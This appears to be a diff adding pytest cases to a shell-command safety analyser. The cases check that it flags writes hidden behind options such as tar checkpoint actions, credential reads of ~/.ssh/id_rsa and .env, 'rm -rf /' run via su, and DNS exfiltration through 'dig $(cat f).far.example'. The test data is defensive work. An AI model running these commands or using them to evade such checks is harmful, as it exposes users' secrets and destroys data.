@@ -1,5 +1,6 @@
 """What lines are read to write is what they write: each is run by the real Bash, sed and awk."""
 
+import fnmatch
 import shutil
 import subprocess
 
@@ -158,6 +159,11 @@ def test_a_change_of_directory_may_have_failed(tmp_path_factory, moves, write):
     assert changed <= written(read(line)), line
 
 
+def test_a_change_of_directory_behind_an_alternative_is_not_believed(tmp_path_factory):
+    agree("cd no || cd sub && true && echo x > out", tmp_path_factory)
+    assert {"out", "sub/out"} <= written(read("cd no || cd sub && true && echo x > out"))
+
+
 def test_a_change_of_directory_that_is_asked_for_is_believed():
     assert written(read("cd sub && echo x > a")) == {"sub/a"}
     assert written(read("cd sub || exit 1; echo x > a")) == {"sub/a"}
@@ -193,3 +199,62 @@ def test_an_abbreviated_option_hides_no_danger(line):
 def test_a_copy_of_unknown_names_into_the_project_is_undecided(line):
     assert read(line).undecided
     assert not read(line.replace(" .", " build/")).undecided
+
+
+HIDING = [
+    "sort -n -o out f", "sort -no out f", "sort --outp out f", "uniq -c f out", "uniq -d f out",
+    "sed -e 'a foo\\\\' -e 'w out' f", "gawk -d 'BEGIN{print 1}'", "gawk -o 'BEGIN{print 1}'",
+    "awk 'BEGIN{if(1) /\"/; print \"x\" > \"out\" }#\"'",
+    "awk 'BEGIN{while(i++<1) /\"/; print \"x\" > \"out\" }#\"'",
+    "awk '!/[\\]/\"]/ {print \"x\" > \"out\"} #\"' f", "awk -f - <<< 'BEGIN{print > \"out\"}'",
+    "awk -f <(echo 'BEGIN{print > \"out\"}')", "tar cf out f", "tar -czf out f", "gzip f",
+    "gzip -k f", "split -l 1 f", "split -l 1 f pre", "csplit f 2", "split --filt 'touch out' f",
+    "tar cf /dev/null f --checkpoint=1 --checkpoint-act=exec='touch out'", "touch -am out",
+    "tar cf x f --remove", "tar cf x f --index-file=out", "mkdir out; touch -m out/a",
+    "script --comm 'touch out' /dev/null", "script -c'touch out' /dev/null",
+    "[[ 'a[$(touch out)]' -eq 0 ]]",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", HIDING)
+def test_an_option_or_a_pattern_hides_no_file_that_is_written(line, tmp_path):
+    if line.startswith("gawk") and not shutil.which("gawk", path=WHERE):
+        pytest.skip("gawk is not installed")
+    changed, _ = run(line, tmp_path)
+    found = read(line)
+    names = written(found)
+    assert changed, line
+    assert (
+        found.undecided
+        or found.dangers
+        or all(any(fnmatch.fnmatch(path, name) for name in names) for path in changed)
+    )
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["cat -n ~/.ssh/id_rsa", "column -t ~/.ssh/id_rsa", "look S .env", "date -f .env",
+     "date --fil=.env", "wc --files0-from=.env", "file -f .env", "diff --from-file=.env f",
+     "grep -f .env f", 'echo "$(<.env)"', 'cat <<< "$(< ~/.ssh/id_rsa)"', "head -n 1 .env",
+     "awk '{getline a[\"x\"] < \".env\"}' f", "awk 'BEGIN{getline a[1,2] < \".env\"}'",
+     "awk 'BEGIN{getline $(1) < \".env\"}'", "gzip -c .env"],
+)  # fmt: skip
+def test_no_option_hides_a_secret_that_is_read(line):
+    assert "credentials-read" in read(line).dangers
+
+
+@pytest.mark.parametrize(
+    "line", ["runuser -u root rm -rf /", "su -c'rm -rf /'", "su --comm='rm -rf /'"]
+)
+def test_a_change_of_user_hides_no_danger(line):
+    assert "rm-root" in read(line).dangers
+
+
+@pytest.mark.parametrize("line", ["dig $(cat f).far.example", "ping -c 1 `cat f`.far.example"])
+def test_the_output_of_a_command_does_not_leave_in_a_name(line):
+    assert "exfiltration" in read(line).dangers
+
+
+@pytest.mark.parametrize("line", ["info -o x sed", "hostnamectl hostname x", "lastlog -C -u x"])
+def test_a_program_that_states_something_may_change_it(line):
+    assert read(line).capability == "execute"
